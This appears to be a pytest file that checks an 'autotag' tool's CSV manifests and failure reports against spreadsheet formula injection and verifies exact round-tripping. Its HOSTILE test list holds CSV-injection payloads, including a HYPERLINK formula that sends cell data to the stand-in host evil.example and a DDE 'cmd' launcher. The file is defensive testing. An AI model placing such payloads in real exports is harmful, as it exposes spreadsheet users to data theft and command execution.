"""CSV written for a person (a backfill's failed.csv and failures.csv, CSV manifests) opens in a spreadsheet
as text, never as a formula (OWASP's CSV-injection guidance: no cell starts with =, +, -, @, tab or CR),
and reads back exactly: `autotag backfill --manifest failed.csv` gets each original key and version id."""

from __future__ import annotations

import csv
import io

import pytest

from autotag.inventory import manifest_line, manifest_rows

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1-1",
    "-2+3",
    "\tx",
    "\rx",
    "'quoted",
    "''twice",
    "plain/key.jpg",
    "a=b",
]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("key", HOSTILE)
@pytest.mark.parametrize("version", [None, "CAEQNhiBgMDJgZCA0BYiIDc4", "=1+1", "-1", "'v", "@x"])
def test_a_manifest_line_is_no_formula_and_reads_back_exactly(key: str, version: str | None) -> None:
    line = manifest_line("autotag-demo", key, version)
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells(line)), line
    ((_, row),) = manifest_rows(io.StringIO(line), "failed.csv")
    assert (row.bucket, row.key, row.version_id) == ("autotag-demo", key, version)


@pytest.mark.parametrize("key", HOSTILE)
def test_a_failure_line_is_no_formula_and_its_object_reads_back(key: str) -> None:
    """failures.csv's line (and failed.csv's, its first three cells): the reason quotes the key, and may
    start with it."""
    from autotag.backfill.shard import failure_row

    row = failure_row("autotag-demo", key, "=1+1", "rejected", f"{key}: 400 InvalidTag")
    text = io.StringIO()
    csv.writer(text, lineterminator="\n").writerow(row)
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells(text.getvalue())), text.getvalue()
    failed_line = io.StringIO()
    csv.writer(failed_line, lineterminator="\n").writerow(row[:3])
    ((_, read),) = manifest_rows(io.StringIO(failed_line.getvalue()), "failed.csv")
    assert (read.key, read.version_id) == (key, "=1+1")
